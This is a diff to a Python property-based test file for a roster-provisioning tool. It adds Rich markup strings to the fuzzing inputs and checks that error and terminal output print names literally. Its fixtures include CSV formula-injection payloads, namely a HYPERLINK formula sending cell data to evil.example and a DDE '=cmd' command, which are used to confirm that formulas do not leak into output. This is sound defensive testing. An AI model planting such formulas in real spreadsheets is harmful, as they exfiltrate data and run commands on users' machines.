@@ -19,7 +19,10 @@ from hypothesis import strategies as st
 from tests.provision.sandbox_setup import example as haessal_example
 from workspace_coach.errors import UserError
 from workspace_coach.provision.plan import Plan, make_plan
-from workspace_coach.provision.render import render_markdown
+from rich.console import Console
+
+from workspace_coach.cli.main import error_text
+from workspace_coach.provision.render import render_markdown, render_text
 from workspace_coach.provision.roster import read_roster_bytes
 
 TODAY = dt.date(2026, 11, 23)
@@ -32,10 +35,13 @@ COLUMNS = ["사번", "이름", "영문이름", "이메일", "팀", "조직", "�
            "name", "team", "별명", ""]
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"클릭")', "=1+1", "+SUM(A1:A9)",
             "-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0"]
+# Rich markup in a name must print as itself, never style the terminal or crash the printer.
+MARKUP = ["김[/archive] 민지", "[bold]이 서준", "[link=x]박 하은", "최[/] 도윤", "[/archive]",
+          "정 [red]미경[/red]", "[bold", "강\\[b] 수"]
 NASTY = ["김민지", "남궁민수", "이나래", "Daniel Brown", "minji.kim@{domain}", "a@{domain}",
          "교육", "교육;돌봄", "/교육", "/새팀", "돌봄, 홍보", "catalysts:2026-01-01", "2024-02-30",
          "2024. 3. 1.", "010-1234-5678", "Secret-pass-123", "\x00", "\x07벨", "김\x1b[31m",
-         "\u202e", "\ufeff", "<b>", "가" * 300, "김" + "가" * 80, "x" * 3000, " ", ""]
+         "\u202e", "\ufeff", "<b>", *MARKUP, "가" * 300, "김" + "가" * 80, "x" * 3000, " ", ""]
 FORMULA_HEADERS = ["별명", "비고"]
 CELL = st.one_of(st.sampled_from(NASTY + FORMULAS), st.text(max_size=30),
                  st.sampled_from(FORMULAS).map(lambda f: "김" + f))
@@ -45,7 +51,8 @@ HANGUL_NAME = st.builds(lambda f, g: f + "".join(g), st.sampled_from("김이박�
 # Formula-looking names that still split into two parts, so they reach the plan.
 FORMULA_NAMES = st.sampled_from(['=HYPERLINK("http://evil.example","클릭") 김', "=1+1 이",
                                  "+SUM(A1:A9) 박", "@SUM(A1) 민지", "-2+3 최"])
-GOOD = {"이름": st.one_of(HANGUL_NAME, HANGUL_NAME, HANGUL_NAME, FORMULA_NAMES),
+GOOD = {"이름": st.one_of(HANGUL_NAME, HANGUL_NAME, HANGUL_NAME, FORMULA_NAMES,
+                         st.sampled_from(MARKUP)),
         "팀": st.sampled_from(["교육", "돌봄", "홍보", "교육;돌봄"]), "team": st.just("개발"),
         "조직": st.sampled_from(["/교육", "/돌봄", "/새팀", ""]), "org": st.just("/홍보"),
         "역할": st.sampled_from(["강사", "조합원", "이사", *FORMULAS]),
@@ -164,9 +171,24 @@ def test_random_rosters_plan_or_fail_cleanly(tenant, table, encoding, junk, with
         event(f"{type(exc).__name__}: {str(exc).splitlines()[-1][:60]}")
         message = str(exc)
         assert message.strip() and "Traceback" not in message
+        printed = _printed(error_text(message))  # as the command line prints it
+        assert printed.startswith("error: ")
         return
     assert isinstance(plan, Plan)
     event("plan" if plan.changes else "empty plan")
     markdown = render_markdown(plan)
     leaked = [c for c in _table_cells(markdown) if FORMULA_CELL.match(c)]
     assert not leaked, leaked
+    text = _printed(render_text(plan))  # the terminal view prints names as they are
+    for change in plan.changes:
+        name = change.meta.get("name")
+        if change.kind == "user" and name and name.isprintable() and any(
+                m in name for m in ("[", "]")):
+            event("markup in a planned name")
+            assert name in text, (name, text)
+
+
+def _printed(renderable) -> str:
+    console = Console(file=io.StringIO(), width=400, color_system=None, soft_wrap=True)
+    console.print(renderable)
+    return console.file.getvalue()
